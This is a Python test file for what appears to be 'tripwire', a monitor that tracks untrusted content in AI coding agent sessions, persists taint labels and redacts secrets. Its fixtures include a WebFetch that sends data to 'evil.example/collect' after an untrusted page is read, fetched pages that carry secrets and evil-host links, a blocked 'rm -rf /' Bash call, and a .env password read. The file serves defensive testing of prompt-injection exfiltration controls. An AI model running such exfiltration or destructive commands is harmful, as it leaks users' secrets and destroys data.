"""Learning after delivery: never seen by a decision, a reader, another process or a replay."""

import random
import shutil

import pytest
from tests.io.test_session import PAGE, SECRET, fetch, place, start

from tripwire.errors import EvidenceUnavailable
from tripwire.model.event import SessionOpened, ToolCall, ToolResult, UserSaid
from tripwire.model.label import Label

__all__ = ["place"]


def events(count):
    found = [SessionOpened("test", "/w", "/home/u"), UserSaid("read https://page.example/ please")]
    for n in range(count):
        args = {"url": f"https://page.example/{n}"}
        found.append(ToolCall(f"c{n}", "claude-code", "WebFetch", args))
        text = {"content": [{"type": "text", "text": f"See https://evil{n}.example/c. {SECRET}"}]}
        found.append(ToolResult(f"c{n}", "claude-code", "WebFetch", args, text))
        found.append(ToolCall(f"b{n}", "claude-code", "Bash", {"command": f"echo {n} > f{n}"}))
    return found


@pytest.mark.parametrize("seed", range(6))
def test_verdicts_and_memory_are_those_of_learning_at_once(place, seed, monkeypatch):
    monkeypatch.setenv("TRIPWIRE_HMAC_KEY", "ab" * 32)
    chance = random.Random(seed)
    now, later, owed = place.open("now"), place.open("later"), []
    for event in events(12):
        assert later.decide(event, later=owed.append).findings == now.decide(event).findings
        if chance.random() < 0.4:
            [settle() for settle in owed]
            owed.clear()
    assert later.memory.snapshot() == now.memory.snapshot()
    now.close(), later.close()
    assert place.open("later").memory.snapshot() == place.open("now").memory.snapshot()
    assert place.verify("later").ok


def test_what_is_put_off_is_learnt_before_the_next_decision(place):
    session = start(place.open())
    call = ToolCall("c", "claude-code", "WebFetch", {"url": "https://page.example/"})
    owed = []
    session.decide(call, later=owed.append)
    session.decide(ToolResult("c", call.source, call.tool, call.args, PAGE), later=owed.append)
    assert Label.UNTRUSTED not in session.engine.memory.labels
    push = ToolCall("p", "claude-code", "WebFetch", {"url": "https://evil.example/collect?d=1"})
    seen = session.decide(push, later=owed.append)
    assert Label.UNTRUSTED in session.engine.memory.labels
    other = start(place.open("other"))
    fetch(other)
    assert seen.findings == other.decide(push).findings


def test_a_crash_before_learning_loses_nothing(place):
    session = start(place.open())
    call = ToolCall("c", "claude-code", "WebFetch", {"url": "https://page.example/"})
    session.decide(call)
    session.decide(
        ToolResult("c", call.source, call.tool, call.args, PAGE), later=lambda settle: None
    )
    other = place.open()
    assert Label.UNTRUSTED in other.memory.labels
    assert other.memory.snapshot() == session.memory.snapshot()


def test_labels_are_recorded_when_it_settles(place):
    session, owed = start(place.open()), []
    call = ToolCall("c", "claude-code", "WebFetch", {"url": "https://page.example/"})
    session.decide(call)
    session.decide(ToolResult("c", call.source, call.tool, call.args, PAGE), later=owed.append)
    assert "labels_gained" not in place.types()
    owed[-1]()
    assert "labels_gained" in place.types()


def test_a_stopped_call_is_never_put_off(place):
    session, owed = start(place.open(attended=False)), []
    verdict = session.decide(
        ToolCall("x", "claude-code", "Bash", {"command": "rm -rf /"}), later=owed.append
    )
    assert not verdict.passes
    assert owed == []


def test_a_session_whose_directory_was_deleted_begins_again_with_all_labels(place):
    session = start(place.open())
    fetch(session)
    shutil.rmtree(session.path)
    try:
        session.decide(UserSaid("still there?"))
    except EvidenceUnavailable:
        return
    assert set(Label) == session.memory.labels.as_set()
    other = place.open()
    other.decide(UserSaid("both"))
    session.decide(UserSaid("of us"))
    session.close(), other.close()
    assert place.types()[0] == "state_reset"
    assert [p.kind for p in place.verify().findings] == ["reset"]


def test_closing_a_deleted_session_is_quiet_and_makes_no_new_one(place):
    session = start(place.open())
    shutil.rmtree(session.path)
    session.close()
    assert not session.path.exists()


def test_a_directory_that_cannot_be_made_again_refuses_by_name(place):
    session = start(place.open())
    shutil.rmtree(session.path)
    session.path.write_text("in the way")
    for _ in range(2):
        with pytest.raises(EvidenceUnavailable):
            session.decide(UserSaid("x"))
    session.close()


LOW = "correct7horse"


def test_a_known_secret_without_a_shape_is_covered_wherever_it_comes_again(place):
    session = start(place.open())
    env = ToolCall("e", "claude-code", "Read", {"file_path": "/w/.env"})
    session.decide(env)
    session.decide(ToolResult("e", env.source, env.tool, env.args, f"DB_PASSWORD={LOW}\n"))
    session.decide(UserSaid(f"the word is {LOW} I think"))
    call = ToolCall("l", "claude-code", "Bash", {"command": f"login {LOW}"})
    session.decide(call)
    said = {"content": [{"type": "text", "text": f"as {LOW}, and {LOW}"}]}
    session.decide(ToolResult("l", call.source, call.tool, call.args, said))
    held = session.memory.snapshot()
    session.close()
    for name in ("receipts.jsonl", "audit.jsonl", "secrets.enc"):
        assert LOW not in (session.path / name).read_text()
    assert place.open().memory.snapshot() == held
    assert place.verify().ok
